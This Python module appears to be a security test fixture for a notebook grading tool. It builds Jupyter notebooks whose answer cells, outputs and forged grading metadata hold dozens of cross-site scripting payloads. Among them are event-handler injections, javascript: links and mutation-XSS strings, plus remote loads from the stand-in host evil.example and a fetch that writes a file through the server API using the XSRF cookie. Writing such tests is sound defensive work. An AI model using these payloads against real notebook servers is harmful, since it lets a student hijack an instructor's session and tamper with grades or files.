"""What a student could write to run script in an instructor's session, or to have something loaded from elsewhere.

`RUN` stands for the script: it leaves a file through the server's API. `EVIL` stands for another server.
"""

import base64

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

EVIL = "http://evil.example"
RUN = (
    "fetch('/api/contents/stolen-NAME.txt',{method:'PUT',headers:{'X-XSRFToken':"
    "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]},body:JSON.stringify({type:'file',format:'text',content:'x'})})"
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="{EVIL}/NAME"/><circle r="9"/></svg>'
PAGE = base64.b64encode(b"<script>RUN</script>").decode()

WRITTEN = {
    "script": "<script>RUN</script>",
    "img-onerror": 'Because <img src="nothing" onerror="RUN">.',
    "svg-onload": SVG,
    "details-ontoggle": '<details open ontoggle="RUN"><summary>s</summary></details>',
    "input-onfocus": '<input autofocus onfocus="RUN">',
    "body-onload": '<body onload="RUN">',
    "style-onload": '<style onload="RUN">@import "EVIL/NAME";</style>',
    "video-source": '<video><source onerror="RUN" src="nothing"></video>',
    "marquee": '<marquee onstart="RUN">m</marquee>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "iframe-data": f'<iframe src="data:text/html;base64,{PAGE}"></iframe>',
    "object": f'<object data="data:text/html;base64,{PAGE}"></object><embed src="EVIL/NAME">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=EVIL/NAME">',
    "base": '<base href="EVIL/" target="_blank">',
    "form": '<form id="f" action="EVIL/NAME"></form><script>f.submit()</script>',
    "remote-image": "![a plot](EVIL/NAME.png)",
    "reference-image": "![a plot][p]\n\n[p]: EVIL/NAME.png",
    "srcset": '<img srcset="EVIL/NAME 1x"><picture><source srcset="EVIL/NAME2"><img></picture>',
    "css-url": '<p style="background:url(EVIL/NAME)">a</p>',
    "stylesheet": '<link rel="stylesheet" href="EVIL/NAME.css"><link rel="prefetch" href="EVIL/NAME">',
    "font": "<style>@font-face{font-family:x;src:url(EVIL/NAME)} *{font-family:x}</style>a",
    "javascript-link": "[see here](javascript:RUN) and <a href='javascript:RUN'>here</a>",
    "named-signs": "&lt;img src=x&gt; &#60;img src=nothing onerror=RUN&#62; [a](&#106;avascript:RUN)",
    "code-or-not": "``a ` <img src=nothing onerror=RUN> ` b``\n\n$`$<img src=nothing onerror=RUN>$`$",
    "fence-or-not": "```\n~~~\n```\n<img src=nothing onerror=RUN>\n~~~\n<img src=nothing onerror=RUN>",
    "in-math": "$$a<img src=nothing onerror=RUN>b$$ and $x</script><script>RUN</script>$",
    "math-link": "$\\href{javascript:RUN}{x}$ and $&#92;href{javascript:RUN}{x}$",
    "math-style": "$\\style{background:url(EVIL/NAME)}{x} \\require{html} \\cssId{explain_scaling}{y}$",
    "math-script": '<script type="math/tex">\\href{javascript:RUN}{x}</script>',
    "mermaid": "```mermaid\ngraph TD; A[<img src=nothing onerror=RUN>]; click A href 'javascript:RUN'\n```",
    "plain-tag": "<details/onclick=RUN><br/onclick=RUN></details>",
    "unclosed": "<img src=nothing onerror=RUN//",
    "comment": "<!--><img src=nothing onerror=RUN>-->",
    "takes-a-field": '# explain_scaling\n\nexplain_scaling\n---\n\n<div id="explain_scaling"></div>',
}
SHOWN = {
    "out-html": {"text/html": '<b>b</b><img src=nothing onerror="RUN"><script>RUN</script>'},
    "out-mutation": {
        "text/html": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=n onerror=RUN>'>"
    },
    "out-style": {
        "text/html": '<p style="background:url(EVIL/NAME);position:fixed;top:0">a</p><style>@import "EVIL/N"</style>'
    },
    "out-link": {"text/html": '<a href="javascript:RUN" ping="EVIL/NAME">a</a><a href="EVIL/NAME">there</a>'},
    "out-script": {"application/javascript": "RUN"},
    "out-svg": {"image/svg+xml": SVG},
    "out-latex": {"text/latex": "<img src=nothing onerror=RUN>$\\href{javascript:RUN}{x}$"},
    "out-markdown": {"text/markdown": "<img src=nothing onerror=RUN>"},
    "out-png": {"image/png": 'x" onerror="RUN'},
    "out-widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>RUN</script>"}},
}

WIDGETS = {"application/vnd.jupyter.widget-state+json": {"state": {"</script><script>alert(1)</script>": {}}}}


def filled(text: str, name: str) -> str:
    """A payload with its script, which leaves a file of this name, and with the other server's address."""
    return text.replace("RUN", RUN).replace("EVIL", EVIL).replace("NAME", name)


def notebook(*names: str) -> nbformat.NotebookNode:
    """A notebook with these payloads, all of them if none is named: as answers, outputs, metadata."""
    cells = [new_markdown_cell(filled(text, name)) for name, text in WRITTEN.items() if not names or name in names]
    for name, bundle in SHOWN.items():
        if not names or name in names:
            data = {kind: filled(text, name) if isinstance(text, str) else text for kind, text in bundle.items()}
            isolated = {"text/html": {"isolated": True}, "image/png": {"width": '1" onerror="RUN'}}
            shown = [new_output("display_data", data=data), new_output("display_data", data=data, metadata=isolated)]
            cells.append(new_code_cell("1", outputs=shown))
    if not names:
        forged = {"grade_id": filled('x"><img src=nothing onerror="RUN">', "meta"), "grade": True, "points": 1}
        tags = ['"><img src=nothing onerror="alert(1)">']
        cells.append(new_markdown_cell("An answer.", metadata={"nbgrader": forged | {"solution": True}, "tags": tags}))
        cells.append(new_raw_cell(filled(WRITTEN["script"], "raw"), metadata={"raw_mimetype": "text/html"}))
        wrong = {"a.png": {"text/html": filled(WRITTEN["script"], "attached")}}
        cells.append(new_markdown_cell("![a](attachment:a.png)", attachments=wrong))
    return new_notebook(cells=cells, metadata={"widgets": WIDGETS})
